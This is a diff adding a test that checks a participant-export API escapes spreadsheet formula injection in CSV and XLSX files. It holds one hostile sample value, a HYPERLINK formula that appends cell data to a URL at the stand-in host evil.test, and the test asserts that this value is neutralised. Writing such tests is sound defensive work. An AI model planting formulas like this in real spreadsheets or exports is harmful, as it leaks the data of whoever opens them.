@@ -249,3 +249,43 @@ describe('participant import', () => {
     }
   });
 });
+
+describe('participant export', () => {
+  const HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
+
+  it('escapes cells a spreadsheet would run as formulas, in CSV and in XLSX', async () => {
+    const rows = [`F-1,"${HOSTILE.replace(/"/g, '""')}",+Formula,1990-01-01,,F,39035,OH,N,N,bachelor,employed,`];
+    const up = await upload(admin, 'hostile.csv', `${header}\n${rows.join('\n')}\n`);
+    const r = await runToEnd(admin, up.body.id, { mapping, ownerOrganizationId: intermediary });
+    expect(r).toMatchObject({ status: 'completed', importedRows: 1 });
+
+    const csvRes = await director.request('GET', '/api/participants/export?format=csv&q=F-1');
+    expect(csvRes.status).toBe(200);
+    expect(csvRes.headers.get('content-disposition')).toMatch(/attachment; filename="participants-.*\.csv"/);
+    const csv = await csvRes.text();
+    const line = csv.split('\r\n').find((l) => l.includes('F-1')) ?? '';
+    // Apostrophe-prefixed (then quoted, as the value holds quotes and commas): text, never a formula.
+    expect(line).toContain(`"'${HOSTILE.replace(/"/g, '""')}"`);
+    expect(line).toContain(",'+Formula,");
+    expect(line).not.toMatch(/(^|,)=HYPERLINK/);
+
+    const xlsxRes = await director.request('GET', '/api/participants/export?format=xlsx&q=F-1');
+    expect(xlsxRes.status).toBe(200);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(await xlsxRes.arrayBuffer()) as never);
+    const ws = wb.worksheets[0];
+    const head = (ws.getRow(1).values as string[]).slice(1);
+    const row = ws.getRow(2);
+    const cell = row.getCell(head.indexOf('first_name') + 1);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(`'${HOSTILE}`);
+    expect(row.getCell(head.indexOf('last_name') + 1).value).toBe("'+Formula");
+    expect(row.getCell(head.indexOf('external_id') + 1).value).toBe('F-1');
+    // No cell anywhere in the sheet is a formula.
+    ws.eachRow((r) => {
+      r.eachCell((c) => {
+        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
+      });
+    });
+  });
+});
